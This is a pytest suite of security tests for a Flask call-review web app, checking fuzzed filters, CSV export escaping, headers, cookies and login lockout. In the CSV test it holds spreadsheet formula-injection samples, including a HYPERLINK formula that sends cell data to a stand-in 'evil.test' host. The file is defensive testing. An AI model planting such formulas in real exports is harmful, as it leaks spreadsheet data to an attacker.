"""What an attacker or a careless user tries on the pages: filters out of range (and fuzzed),
formulas in exports, endless comments, copied cookies, framing, guessing passwords and names."""

from __future__ import annotations

import csv
import io
import statistics
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from ivr.app import create_app
from ivr.review import second_opinion
from ivr.review.homophones import respellings
from ivr.store.db import transaction
from ivr.store.logins import LoginAttempt, record_failure
from ivr.store.models import Call
from ivr.store.overrides import MAX_COMMENT, FindingOverride
from ivr.web.auth import ADDRESS_FREE
from ivr.web.queries import FIRST_DATE, LAST_DATE, MAX_PAGE
from tests.web.conftest import ADMIN, REVIEWER, Site, csrf_of, login, make_settings

FILTERS = ["department", "agent", "date_from", "date_to", "rule", "score_min", "score_max", "q"]


@pytest.mark.parametrize(
    "path",
    [
        "/calls?date_to=9999-12-31",
        "/calls?date_from=0001-01-01&date_to=0001-01-01",
        "/calls?page=99999999999999999999999",
        "/calls?score_min=nan&score_max=1e999",
        "/calls?q=%00",
        "/dashboard?date_to=9999-12-31",
        "/dashboard?page=-5&date_from=9999-12-31",
        "/calls/export.csv?date_to=9999-12-31",
        "/calls/export.json?page=99999999999999999999999",
    ],
)
def test_a_filter_out_of_range_is_a_message_not_a_500(reviewer: FlaskClient, path: str) -> None:
    answer = reviewer.get(path, headers={"Accept-Language": "en"})
    assert answer.status_code == 200
    if "export" not in path:
        assert '<p class="error"' in answer.get_data(as_text=True)


def test_the_messages_speak_the_pages_language(reviewer: FlaskClient) -> None:
    path = "/calls?date_to=9999-12-31&page=99999999999999999999999&score_min=101"
    english = reviewer.get(path, headers={"Accept-Language": "en"}).get_data(as_text=True)
    chinese = reviewer.get(path, headers={"Accept-Language": "zh"}).get_data(as_text=True)
    assert f"is not a date from {FIRST_DATE} to {LAST_DATE}" in english
    assert f"is not a page number from 1 to {MAX_PAGE}" in english
    assert "is not a number from 0 to 100" in english
    assert f"{FIRST_DATE} 到 {LAST_DATE} 之间的日期" in chinese
    assert "之间的页码" in chinese and "0 到 100 之间的数字" in chinese


def _get_routes(site: Site) -> list[str]:
    from tests.web.test_pages import SAMPLE_ARGS

    paths = []
    for rule in site.app.url_map.iter_rules():
        # The live page's event stream never ends by design (tests/live reads its first event).
        if "GET" in rule.methods and rule.endpoint not in ("static", "auth.static", "live.events"):
            args = {name: SAMPLE_ARGS.get(name, "hold.wav") for name in rule.arguments}
            paths.append(rule.build(args)[1])
    return sorted(paths)


EDGES = ["9999-12-31", "0001-01-01", "1e309", "nan", "-0", "99999999999999999999999", "\x00"]
VALUES = st.one_of(
    st.sampled_from(EDGES),
    st.text(max_size=30),
    st.integers().map(str),
    st.floats().map(str),
    st.dates().map(str),
)
QUERIES = st.fixed_dictionaries(
    {}, optional={name: VALUES for name in [*FILTERS, "page", "next", "fmt"]}
).flatmap(
    lambda known: st.dictionaries(st.text(max_size=8), VALUES, max_size=2).map(
        lambda extra: {**extra, **known}
    )
)


def test_every_route_survives_fuzzed_query_parameters(site: Site) -> None:
    """Every GET route of the app, with random filters: an answer, never a 500."""
    client = site.app.test_client()
    assert login(client, ADMIN).status_code == 302
    routes = _get_routes(site)
    assert {"/calls", "/dashboard", "/calls/export.csv", "/login"} <= set(routes)
    for route in routes:
        fuzz_route(client, route)


def fuzz_route(client: FlaskClient, route: str) -> None:
    @settings(
        max_examples=50,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(query=QUERIES)
    def fuzz(query: dict[str, str]) -> None:
        answer = client.get(route, query_string=query)
        assert answer.status_code < 500, (route, query, answer.status_code)

    fuzz()


def test_the_exported_csv_is_inert(site: Site, reviewer: FlaskClient) -> None:
    evil = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1+2", "-3", "@SUM(1)"]
    with transaction(site.store) as session:
        calls = session.scalars(select(Call).order_by(Call.id)).all()
        for call, agent in zip(calls, evil, strict=False):
            call.agent = agent
    body = reviewer.get("/calls/export.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    agents = {row[4] for row in rows[1:]}
    assert {"'" + agent for agent in evil} <= agents


def _override(client: FlaskClient, comment: str):
    token = csrf_of(client.get("/calls/1").get_data(as_text=True))
    return client.post(
        "/calls/1/override",
        data={"csrf_token": token, "rule": "closing", "status": "pass", "comment": comment},
        headers={"Accept-Language": "en"},
        follow_redirects=True,
    )


def test_an_override_comment_has_a_length_limit(site: Site, reviewer: FlaskClient) -> None:
    answer = _override(reviewer, "x" * (MAX_COMMENT + 1))
    assert f"longer than {MAX_COMMENT} characters" in answer.get_data(as_text=True)
    with site.store() as session:
        assert session.scalars(select(FindingOverride)).all() == []
    assert f'maxlength="{MAX_COMMENT}"' in reviewer.get("/calls/1").get_data(as_text=True)
    _override(reviewer, "y" * MAX_COMMENT)
    with site.store() as session:
        assert [len(o.comment) for o in session.scalars(select(FindingOverride))] == [MAX_COMMENT]


def test_pages_cannot_be_framed_and_say_what_they_load(site: Site) -> None:
    answer = site.app.test_client().get("/login")
    csp = answer.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in csp and "connect-src 'self'" in csp
    assert "default-src 'self'" in csp and "unsafe-inline" not in csp
    assert answer.headers["X-Frame-Options"] == "DENY"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(("base", "secure"), [(None, False), ("https://ivr.example.com", True)])
def test_the_session_cookie_is_samesite_and_secure_behind_https(
    site: Site, base: str | None, secure: bool
) -> None:
    settings = make_settings(site.settings.data_dir.parent)
    app = create_app(settings.model_copy(update={"public_base_url": base}))
    client = app.test_client()
    answer = login(client, REVIEWER)
    cookie = answer.headers["Set-Cookie"]
    assert "SameSite=Lax" in cookie and "HttpOnly" in cookie
    assert ("Secure" in cookie) is secure


def test_a_copied_cookie_stops_working_at_logout(site: Site, reviewer: FlaskClient) -> None:
    thief = site.app.test_client()
    cookie = reviewer.get_cookie("session")
    assert cookie is not None
    thief.set_cookie("session", cookie.value)
    assert thief.get("/calls").status_code == 200
    token = csrf_of(reviewer.get("/calls").get_data(as_text=True))
    assert reviewer.post("/logout", data={"csrf_token": token}).status_code == 302
    answer = thief.get("/calls")
    assert answer.status_code == 302 and answer.location.startswith("/login")


def _try(client: FlaskClient, username: str, password: str) -> int:
    token = csrf_of(client.get("/login").get_data(as_text=True))
    data = {"username": username, "password": password, "csrf_token": token}
    answer = client.post("/login", data=data, headers={"Accept-Language": "en"})
    if answer.status_code == 429:
        assert "Too many failed logins. Try again in" in answer.get_data(as_text=True)
    return answer.status_code


def test_twenty_wrong_passwords_lock_the_account_in_every_worker(site: Site) -> None:
    client = site.app.test_client()
    assert [_try(client, REVIEWER[0], f"guess-{n}") for n in range(20)].count(401) >= 10
    assert _try(client, REVIEWER[0], REVIEWER[1]) == 429
    # Another process on the same store (another gunicorn worker, or after a restart).
    other = create_app(site.settings).test_client()
    assert _try(other, REVIEWER[0], REVIEWER[1]) == 429
    assert _try(other, ADMIN[0], ADMIN[1]) == 302  # other accounts are not locked with it


@pytest.mark.parametrize("proxies", [0, 1])
def test_the_address_limit_counts_the_client_behind_a_trusted_proxy_only(
    site: Site, proxies: int
) -> None:
    app = create_app(site.settings.model_copy(update={"proxies": proxies}))
    attacker, colleague = app.test_client(), app.test_client()
    attacker.environ_base["HTTP_X_FORWARDED_FOR"] = "203.0.113.7"
    colleague.environ_base["HTTP_X_FORWARDED_FOR"] = "198.51.100.9"
    tries = [_try(attacker, f"nobody-{n}", "guess") for n in range(ADDRESS_FREE + 1)]
    assert tries[-1] == 429  # many names from one address: that address is locked
    # Behind the proxy the colleague is another client; with no proxy trusted the header is
    # the client's own claim, so everyone shares the one address it came from.
    assert _try(colleague, ADMIN[0], ADMIN[1]) == (302 if proxies else 429)


def test_an_unknown_name_takes_as_long_as_a_wrong_password(site: Site) -> None:
    def median_seconds(username: str) -> float:
        client = site.app.test_client()
        token = csrf_of(client.get("/login").get_data(as_text=True))
        times = []
        for _ in range(5):
            start = time.perf_counter()
            client.post("/login", data={"username": username, "password": "x", "csrf_token": token})
            times.append(time.perf_counter() - start)
        return statistics.median(times)

    known, unknown = median_seconds(ADMIN[0]), median_seconds("nobody-by-this-name")
    assert unknown > known / 3, f"unknown {unknown:.3f}s vs known {known:.3f}s"


def test_old_failures_are_forgotten(site: Site) -> None:
    now = datetime.now(UTC)
    with transaction(site.store) as session:
        session.add(LoginAttempt(key="user:rita", created_at=now - timedelta(hours=1)))
        session.add(LoginAttempt(key="user:rita", created_at=now - timedelta(minutes=1)))
    with transaction(site.store) as session:
        record_failure(session, ["user:ada"], keep=timedelta(minutes=15))
    with transaction(site.store) as session:
        kept = session.execute(select(LoginAttempt.key)).scalars().all()
    assert sorted(kept) == ["user:ada", "user:rita"]


def test_each_process_loads_the_checkers_learned_models_before_its_first_live_call(
    tmp_path: Path,
) -> None:
    """Live assist checks the call as it goes: a model compiled on its first use (seconds, in
    Mandarin) would stall the first call each gunicorn worker takes, mid-call."""
    second_opinion.models.cache_clear()
    create_app(make_settings(tmp_path))
    for thread in threading.enumerate():
        if thread.name == "ivr-live-preload":
            thread.join(timeout=120)
    hits = second_opinion.models.cache_info().hits
    assert second_opinion.models("zh") is not None
    assert second_opinion.models.cache_info().hits == hits + 1  # loaded ahead, not now


def test_each_process_builds_the_english_homophones_before_its_first_live_call(
    tmp_path: Path,
) -> None:
    """The shipped English department has live assist: the homophones English texts are cleaned
    with (a second or so to build) are ready before its first call."""
    respellings.cache_clear()
    create_app(make_settings(tmp_path))
    for thread in threading.enumerate():
        if thread.name == "ivr-live-preload":
            thread.join(timeout=120)
    assert respellings.cache_info().currsize == 1  # built ahead, not by this test
